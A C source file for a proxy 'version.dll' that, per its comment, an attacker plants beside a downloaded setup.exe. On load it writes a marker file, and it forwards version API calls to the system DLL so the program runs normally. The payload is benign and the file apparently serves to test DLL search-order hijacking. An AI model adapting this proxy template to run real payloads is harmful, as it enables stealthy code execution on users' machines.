/* A "version.dll" that an attacker plants beside a downloaded setup.exe:
   loading it leaves "<its own path>.loaded". It passes the version API on to
   the system's copy, so a program that imports it still runs as usual. */
#include <windows.h>

static HMODULE system_version(void) {
  static HMODULE module;
  if (!module) {
    wchar_t path[MAX_PATH + 16];
    UINT length = GetSystemDirectoryW(path, MAX_PATH);
    if (length == 0 || length >= MAX_PATH) return NULL;
    lstrcpyW(path + length, L"\\version.dll");
    module = LoadLibraryW(path);
  }
  return module;
}

static FARPROC system_function(const char* name) {
  HMODULE module = system_version();
  return module ? GetProcAddress(module, name) : NULL;
}

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID reserved) {
  (void)reserved;
  if (reason != DLL_PROCESS_ATTACH) return TRUE;
  wchar_t path[MAX_PATH + 16];
  DWORD length = GetModuleFileNameW(self, path, MAX_PATH);
  if (length == 0 || length >= MAX_PATH) return TRUE;
  lstrcpyW(path + length, L".loaded");
  HANDLE marker = CreateFileW(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
  if (marker != INVALID_HANDLE_VALUE) CloseHandle(marker);
  return TRUE;
}

/* Exported under the system's names by planted_version.def. */
typedef DWORD(WINAPI* InfoSizeFn)(LPCWSTR, LPDWORD);
typedef BOOL(WINAPI* InfoFn)(LPCWSTR, DWORD, DWORD, LPVOID);
typedef BOOL(WINAPI* QueryFn)(LPCVOID, LPCWSTR, LPVOID*, PUINT);

DWORD WINAPI PlantedInfoSize(LPCWSTR name, LPDWORD handle) {
  InfoSizeFn call = (InfoSizeFn)(void*)system_function("GetFileVersionInfoSizeW");
  return call ? call(name, handle) : 0;
}

BOOL WINAPI PlantedInfo(LPCWSTR name, DWORD handle, DWORD size, LPVOID data) {
  InfoFn call = (InfoFn)(void*)system_function("GetFileVersionInfoW");
  return call ? call(name, handle, size, data) : FALSE;
}

BOOL WINAPI PlantedQuery(LPCVOID block, LPCWSTR sub_block, LPVOID* buffer, PUINT length) {
  QueryFn call = (QueryFn)(void*)system_function("VerQueryValueW");
  return call ? call(block, sub_block, buffer, length) : FALSE;
}
